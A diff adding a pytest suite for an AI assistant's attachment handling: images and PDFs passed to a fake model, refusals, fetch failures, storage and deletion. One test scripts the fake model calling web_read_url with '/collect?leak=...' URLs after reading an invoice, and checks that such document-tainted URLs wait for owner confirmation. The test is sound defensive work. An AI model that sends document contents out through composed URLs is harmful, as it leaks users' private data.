@@ -1,0 +1,184 @@
+"""Attachments through the real worker, runner and litellm against the fake model server: what the
+model is shown, what the user is told, what is stored and kept."""
+
+from __future__ import annotations
+
+import base64
+import json
+from pathlib import Path
+from typing import Any
+
+import pytest
+
+from bruce.channel import Attachment, IncomingMessage
+from bruce.errors import MediaFetchError
+from bruce.runtime.daemon import App
+from bruce.values import AttachmentKind as K
+from tests.fakes.channel import HANG, RecordingChannel
+from tests.fakes.llm_server import FakeLLMServer, Step
+from tests.fakes.media_files import jpeg, pdf_scanned, pdf_with_text, png
+from tests.helpers import rows, say
+from tests.security.test_composed_urls import site  # noqa: F401  (a fixture)
+
+PHOTO = Attachment(K.IMAGE, "photo-1", mime="image/jpeg", name="receipt.jpg", size=len(jpeg()))
+INVOICE = Attachment(K.DOCUMENT, "doc-1", mime="application/pdf", name="invoice.pdf")
+
+
+async def send(app: App, *attachments: Attachment, text: str = "") -> None:
+    message = IncomingMessage(channel="test", chat_id="c1", sender_id="u1", text=text, platform_message_id=None,
+                              timestamp=app.clock.now(), attachments=attachments)
+    handle = await app.worker.deliver(message)
+    assert handle is not None, "message was refused"
+    await handle
+
+
+def user_content(request: dict[str, Any]) -> Any:
+    return [m for m in request["messages"] if m["role"] == "user"][-1]["content"]
+
+
+def images_in(request: dict[str, Any]) -> list[bytes]:
+    parts = [p for m in request["messages"] if isinstance(m["content"], list) for p in m["content"]
+             if p.get("type") == "image_url"]
+    return [base64.b64decode(p["image_url"]["url"].split(",", 1)[1]) for p in parts]
+
+
+async def inbound(app: App) -> list[dict[str, Any]]:
+    return await rows(app, "SELECT id, text, status, attachments FROM messages WHERE direction = 'in' ORDER BY id")
+
+
+@pytest.fixture
+async def media_app(app_factory):
+    return await app_factory(media={"vision": True, "fetch_timeout_s": 0.3})
+
+
+async def test_photos_reach_the_model_intact_in_their_turn_only(media_app, fake_llm, channel, tmp_path):
+    channel.media.update({"photo-1": jpeg(), "photo-2": png()})
+    second = Attachment(K.IMAGE, "photo-2", mime="image/png")
+    fake_llm.add(Step.text("A receipt and a grey square."))
+    await send(media_app, PHOTO, second, text="what are these?")
+    first = fake_llm.requests[-1]
+    assert images_in(first) == [jpeg(), png()]
+    assert user_content(first)[0] == {"type": "text", "text": "what are these?\n\n[photo: receipt.jpg]\n\n[photo]"}
+    assert channel.texts() == ["A receipt and a grey square."]
+    (message,) = await inbound(media_app)
+    assert message["text"] == "what are these?\n\n[photo: receipt.jpg]\n\n[photo]" and message["status"] == "done"
+    saved = [e["saved"] for e in json.loads(message["attachments"])]
+    assert saved == [f"media/2026-12/{message['id']}-0.jpg", f"media/2026-12/{message['id']}-1.png"]
+    assert (tmp_path / saved[0]).read_bytes() == jpeg() and (tmp_path / saved[1]).read_bytes() == png()
+    fake_llm.add(Step.text("You're welcome."))
+    await say(media_app, "thanks")
+    later = fake_llm.requests[-1]
+    assert images_in(later) == []
+    assert "what are these?\n\n[photo: receipt.jpg]\n\n[photo]" in [m["content"] for m in later["messages"]]
+
+
+async def test_a_document_reaches_the_model_and_taints_the_turn_and_the_next(app_factory, fake_llm, channel, site):  # noqa: F811
+    app = await app_factory(tools={"web": {"allow_private": True}})
+    channel.media["doc-1"] = pdf_with_text("Invoice 42: total 17.50 EUR\nPay at the usual place.")
+    leak = site.url("/collect?leak=invoice-42")
+    fake_llm.add(Step.tool_calls(("web_read_url", {"url": leak})), Step.text("I asked you before opening it."))
+    await send(app, INVOICE, text="what do I owe?")
+    text = user_content(fake_llm.requests[0])
+    assert text.startswith("what do I owe?\n\n[document: invoice.pdf]\n") and "total 17.50 EUR" in text
+    assert site.paths == []  # a URL the model composed after reading a document waits for the owner
+    ((_, request),) = channel.confirmations
+    assert request.tool_name == "web.read_url" and "composed this URL" in (request.preview or "")
+    (message,) = await inbound(app)
+    (entry,) = json.loads(message["attachments"])
+    assert message["text"] == text and entry["chars"] > 20 and entry["cut"] is False
+    fake_llm.add(Step.tool_calls(("web_read_url", {"url": site.url("/collect?leak=again")})), Step.text("Asked."))
+    await say(app, "ok")  # a turn later, the session still holds the document
+    assert site.paths == [] and len(channel.confirmations) == 2
+
+
+async def test_a_long_document_is_cut_with_a_note(app_factory, fake_llm, channel):
+    app = await app_factory(media={"max_document_chars": 500})
+    channel.media["notes"] = ("line of notes\n" * 100).encode()
+    fake_llm.add(Step.text("Notes."))
+    await send(app, Attachment(K.DOCUMENT, "notes", name="notes.txt"))
+    assert user_content(fake_llm.requests[0]).endswith(
+        "[… cut: the document has 1399 characters, the first 500 are shown]")
+
+
+REFUSED = [
+    ({"enabled": False}, PHOTO, "media.enabled"),
+    ({"vision": True}, Attachment(K.OTHER, "s", label="sticker"), "it is a sticker"),
+    ({"vision": True, "max_file_mb": 1}, Attachment(K.IMAGE, "p", size=3 * 1024 * 1024), "1 MB limit"),
+    ({"vision": True, "max_voice_s": 60}, Attachment(K.VOICE, "v", duration_s=61, transcript="hi"), "60 s limit"),
+    ({"vision": True}, Attachment(K.VOICE, "v", mime="audio/ogg"), "media.transcription_model"),
+    ({"vision": False}, PHOTO, "media.vision: true"),
+    ({"vision": True}, Attachment(K.DOCUMENT, "d", name="plan.docx"), ".docx"),
+]
+
+
+@pytest.mark.parametrize("media, attachment, words", REFUSED)
+async def test_refusals_cost_no_call_and_no_download(app_factory, fake_llm, channel, media, attachment, words):
+    app = await app_factory(media=media)
+    await send(app, attachment, text="look")
+    (reply,) = channel.texts()
+    assert words in reply
+    assert fake_llm.requests == [] and channel.fetched == []
+    (message,) = await inbound(app)
+    assert message["status"] == "done" and message["text"] == "look"
+    assert await rows(app, "SELECT id FROM turns") == []
+
+
+async def test_an_album_with_one_refused_part_is_not_read_at_all(media_app, fake_llm, channel):
+    await send(media_app, PHOTO, Attachment(K.DOCUMENT, "d", name="plan.docx"))
+    (reply,) = channel.texts()
+    assert "plan.docx" in reply and "1 of its 2" in reply
+    assert fake_llm.requests == [] and channel.fetched == []
+
+
+async def failed_cleanly(app: App, fake_llm: FakeLLMServer, channel: RecordingChannel, words: str,
+                         tmp_path: Path) -> None:
+    """The clear reply, no model call, the message closed with its text as sent, nothing kept."""
+    (reply,) = channel.texts()
+    assert words in reply
+    assert fake_llm.requests == []
+    (message,) = await inbound(app)
+    assert message["status"] == "failed" and message["text"] == "see"  # closed: never answered again
+    assert any("error" in e for e in json.loads(message["attachments"]))
+    assert not any(e.get("used") or e.get("saved") for e in json.loads(message["attachments"]))
+    ((status, error),) = [(t["status"], t["error"]) for t in await rows(app, "SELECT status, error FROM turns")]
+    assert status == "failed" and error.startswith("media: ")
+    assert not [p for p in (tmp_path / "media").rglob("*") if p.is_file()]
+
+
+@pytest.mark.parametrize("served, attachment, words", [
+    (jpeg(), INVOICE, "invoice.pdf: it is not a PDF"),
+    (pdf_scanned(), INVOICE, "no text layer"),
+    (b"", PHOTO, "receipt.jpg: it is empty (0 bytes)"),
+    (pdf_with_text(), PHOTO, "not a JPEG, PNG, GIF or WEBP"),
+    (MediaFetchError("Telegram says the file is gone"), PHOTO, "I could not fetch receipt.jpg: Telegram says"),
+    (HANG, PHOTO, "took longer than 0.3 s (media.fetch_timeout_s)"),
+])
+async def test_bad_files_and_fetches_get_a_clear_reply_and_leave_nothing_half_stored(
+        media_app, fake_llm, channel, tmp_path, served, attachment, words):
+    channel.media[attachment.ref] = served
+    await send(media_app, attachment, text="see")
+    await failed_cleanly(media_app, fake_llm, channel, words, tmp_path)
+
+
+async def test_a_photo_kept_before_a_later_part_fails_is_deleted(media_app, fake_llm, channel, tmp_path):
+    channel.media.update({"photo-1": jpeg(), "doc-1": b"not a pdf"})
+    await send(media_app, PHOTO, INVOICE, text="see")
+    await failed_cleanly(media_app, fake_llm, channel, "invoice.pdf: it is not a PDF", tmp_path)
+
+
+async def test_kept_photos_are_deleted_after_keep_days_at_the_next_start(app_factory, fake_llm, channel, clock,
+                                                                          tmp_path):
+    app = await app_factory(media={"vision": True, "keep_days": 7})
+    channel.media["photo-1"] = jpeg()
+    fake_llm.add(Step.text("A receipt."))
+    await send(app, PHOTO)
+    (kept,) = [p for p in (tmp_path / "media").rglob("*") if p.is_file()]
+    await app.stop()
+    clock.advance(days=6)
+    await (await app_factory(media={"vision": True, "keep_days": 7})).stop()
+    assert kept.exists()
+    clock.advance(days=2)
+    await app_factory(media={"vision": True, "keep_days": 7})
+    assert not kept.exists()
+    (message,) = await inbound(app)
+    assert message["text"] == "[photo: receipt.jpg]"  # the history keeps the placeholder
